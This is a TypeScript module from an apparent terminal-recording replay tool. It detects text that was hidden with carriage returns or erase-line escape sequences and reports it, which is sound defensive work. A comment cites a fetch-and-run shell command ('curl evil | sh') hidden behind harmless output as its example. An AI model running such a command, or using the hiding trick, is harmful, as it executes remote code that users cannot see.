// Text a terminal recording printed and then hid on the same line: a bare carriage
// return followed by other text (`curl evil | sh\rls -la      `), or an erase-line
// sequence. The screen text shows only what was left, which is exactly what such a
// trick is for, so replay lists what was hidden. Backspace corrections (typos) are not
// reported, nor text that appears anywhere else in the dump (a shell redrawing a line),
// nor text without words (progress bars).
import type { Asciicast } from './asciicast';
import { multilineText } from '../output/sanitize';

// CSI (ESC [ … final), OSC (ESC ] … BEL or ESC \), other two-character escapes.
// eslint-disable-next-line no-control-regex
const ESCAPE = /\u001b\[([0-9;?]*)([@-~])|\u001b\][^\u0007\u001b]*(?:\u0007|\u001b\\)|\u001b[@-Z\\-_]/y;

const MAX_REPORTED = 50;

export interface Overwritten {
  /** Each distinct hidden text, in the order it was hidden (at most 50). */
  texts: string[];
  /** How many there were in all. */
  total: number;
}

const letters = (s: string) => s.replace(/[^\p{L}]/gu, '');

export function findOverwritten(cast: Asciicast, renderedText: string): Overwritten {
  const hidden: string[] = [];
  let line: string[] = [];
  let col = 0;
  // What the current line held each time it was about to be written over.
  let before: string[] = [];
  const snapshot = () => {
    const text = line.join('').trim();
    if (/\p{L}.*\p{L}/u.test(text)) before.push(text);
  };
  // At the end of a line: what it held before is hidden unless the line still says the
  // same words (a progress bar, a shell redrawing it).
  const endLine = () => {
    const shown = letters(line.join(''));
    for (const text of before) if (letters(text) !== shown) hidden.push(text);
    before = [];
    line = [];
    col = 0;
  };

  const text = cast.events.filter((e) => e[1] === 'o').map((e) => e[2]).join('');
  for (let i = 0; i < text.length; ) {
    ESCAPE.lastIndex = i;
    const esc = ESCAPE.exec(text);
    if (esc) {
      // Erasing the whole line, or from its start, hides what it held. Erasing from
      // mid-line is how bash echoes a backspace: an edit, not a hiding place.
      if (esc[2] === 'K' || esc[2] === 'J') {
        const whole = esc[2] === 'K' && esc[1] === '2';
        if (whole || col === 0) snapshot();
        line = whole ? [] : line.slice(0, col);
      }
      i = ESCAPE.lastIndex;
      continue;
    }
    const ch = text[i++] as string;
    if (ch === '\n') {
      endLine();
    } else if (ch === '\r') {
      if (text[i] !== '\n') snapshot();
      col = 0;
    } else if (ch === '\b') {
      col = Math.max(0, col - 1);
    } else if (ch >= ' ') {
      line[col++] = ch;
    }
  }
  endLine();

  const seen = new Set<string>();
  const kept = hidden.filter((h) => {
    if (seen.has(h) || renderedText.includes(h)) return false;
    seen.add(h);
    return true;
  });
  return { texts: kept.slice(0, MAX_REPORTED).map(multilineText), total: kept.length };
}
